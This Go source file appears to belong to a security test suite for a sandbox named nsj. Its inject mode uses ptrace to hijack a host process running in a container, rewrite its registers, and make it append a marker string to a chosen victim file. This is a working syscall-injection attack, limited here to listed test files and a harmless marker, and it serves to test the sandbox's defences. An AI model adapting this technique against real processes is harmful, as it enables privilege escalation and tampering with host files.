//go:build amd64

package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"strings"

	"golang.org/x/sys/unix"
)

// -mode inject (amd64): the container's root, with CAP_SYS_PTRACE in its
// own user namespace, takes over the host command nsj runs in the
// container (named -comm) and makes it append the marker to the victim at
// -victim-path, a host path seen through the command's root: it seizes the
// command while it sleeps in a system call, points its registers at the
// syscall instruction it is blocked in, and has it run openat, write and
// close with its own credentials; then it restores the registers, and the
// command goes on sleeping. Before it does, it checks through
// /proc/PID/root that the path names one of the -victims files: it writes
// nothing else. One INJECT line per process it got hold of says what the
// command's openat returned.

// injectMarker is what the command is made to append.
const injectMarker = "nsj security test: written by the container through the command\n"

// injector is the state of -mode inject.
type injector struct {
	*attacker
	comm, path string
	done       map[int]bool // processes attacked, or refused for good
}

func (a *attacker) injectLoop(name, path, stop string) {
	runtime.LockOSThread() // ptrace requests come from the thread that seized
	in := &injector{attacker: a, comm: name, path: path, done: map[int]bool{}}
	for !exists(stop) {
		for _, pid := range a.candidates() {
			if !in.done[pid] && comm(pid) == in.comm {
				in.try(pid)
			}
		}
		reapNow() // not concurrently: wait4 would take the tracee's stops
	}
	a.logf("DONE")
}

// try attacks pid once it is blocked in a system call.
func (in *injector) try(pid int) {
	var st unix.Stat_t
	target := filepath.Join(fmt.Sprintf("/proc/%d/root", pid), in.path)
	if err := unix.Stat(target, &st); err != nil {
		in.logf("NOPATH pid=%d path=%s err=%s", pid, in.path, errName(err))
		in.done[pid] = true
		return
	}
	if in.victims[fmt.Sprintf("%d:%d", st.Dev, st.Ino)] == nil {
		in.logf("NOTVICTIM pid=%d path=%s", pid, in.path)
		in.done[pid] = true
		return
	}
	if err := unix.PtraceSeize(pid); err != nil {
		in.logf("SEIZE pid=%d err=%s", pid, errName(err))
		in.done[pid] = true
		return
	}
	defer unix.PtraceDetach(pid)
	if err := unix.PtraceInterrupt(pid); err != nil || waitStop(pid) != nil {
		return
	}
	var saved unix.PtraceRegs
	if err := unix.PtraceGetRegs(pid, &saved); err != nil {
		return
	}
	defer unix.PtraceSetRegs(pid, &saved)
	insn := make([]byte, 2)
	if _, err := unix.PtracePeekText(pid, uintptr(saved.Rip-2), insn); err != nil || insn[0] != 0x0f || insn[1] != 0x05 {
		return // not blocked in a system call: try again later
	}
	in.done[pid] = true
	fd, wrote := in.inject(pid, saved)
	in.logf("INJECT pid=%d uid=%s open=%d wrote=%d", pid, uidOf(pid), fd, wrote)
}

// inject has the command open the victim, append the marker and close it;
// it returns openat's result (-errno on failure) and write's.
func (in *injector) inject(pid int, saved unix.PtraceRegs) (fd, wrote int64) {
	// Scratch space below the stack pointer and its red zone.
	scratch := (saved.Rsp - 4096) &^ 15
	path := append([]byte(in.path), 0)
	marker := []byte(injectMarker)
	if _, err := unix.PtracePokeData(pid, uintptr(scratch), path); err != nil {
		return -1000, 0
	}
	if _, err := unix.PtracePokeData(pid, uintptr(scratch+1024), marker); err != nil {
		return -1000, 0
	}
	atFdcwd := uint64(0xffffffffffffff9c) // AT_FDCWD, -100
	fd = syscallIn(pid, saved, unix.SYS_OPENAT, atFdcwd, scratch, unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC)
	if fd < 0 {
		return fd, 0
	}
	wrote = syscallIn(pid, saved, unix.SYS_WRITE, uint64(fd), scratch+1024, uint64(len(marker)))
	syscallIn(pid, saved, unix.SYS_CLOSE, uint64(fd))
	return fd, wrote
}

// syscallIn runs one system call in the stopped tracee: registers as the
// x86-64 calling convention wants them, the instruction pointer on the
// syscall instruction, orig_rax -1 so that the kernel does not restart the
// interrupted call instead, and one single step.
func syscallIn(pid int, saved unix.PtraceRegs, nr uint64, args ...uint64) int64 {
	regs := saved
	regs.Orig_rax = ^uint64(0)
	regs.Rax = nr
	regs.Rip = saved.Rip - 2
	dst := []*uint64{&regs.Rdi, &regs.Rsi, &regs.Rdx, &regs.R10}
	for i, v := range args {
		*dst[i] = v
	}
	if unix.PtraceSetRegs(pid, &regs) != nil || unix.PtraceSingleStep(pid) != nil || waitStop(pid) != nil {
		return -1001
	}
	if unix.PtraceGetRegs(pid, &regs) != nil {
		return -1002
	}
	return int64(regs.Rax)
}

// waitStop waits until the tracee stops.
func waitStop(pid int) error {
	var ws unix.WaitStatus
	for {
		_, err := unix.Wait4(pid, &ws, unix.WALL, nil)
		if errors.Is(err, unix.EINTR) {
			continue
		}
		if err != nil {
			return err
		}
		if !ws.Stopped() {
			return fmt.Errorf("tracee %d did not stop: %v", pid, ws)
		}
		return nil
	}
}

// uidOf is the real, effective, saved and filesystem uid of pid as the
// attacker sees them, comma-separated.
func uidOf(pid int) string {
	b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "Uid:"); ok {
			return strings.Join(strings.Fields(v), ",")
		}
	}
	return "?"
}

// reapNow reaps the orphans the container's init has inherited, without
// waiting.
func reapNow() {
	for {
		var ws unix.WaitStatus
		if pid, _ := unix.Wait4(-1, &ws, unix.WNOHANG, nil); pid <= 0 {
			return
		}
	}
}
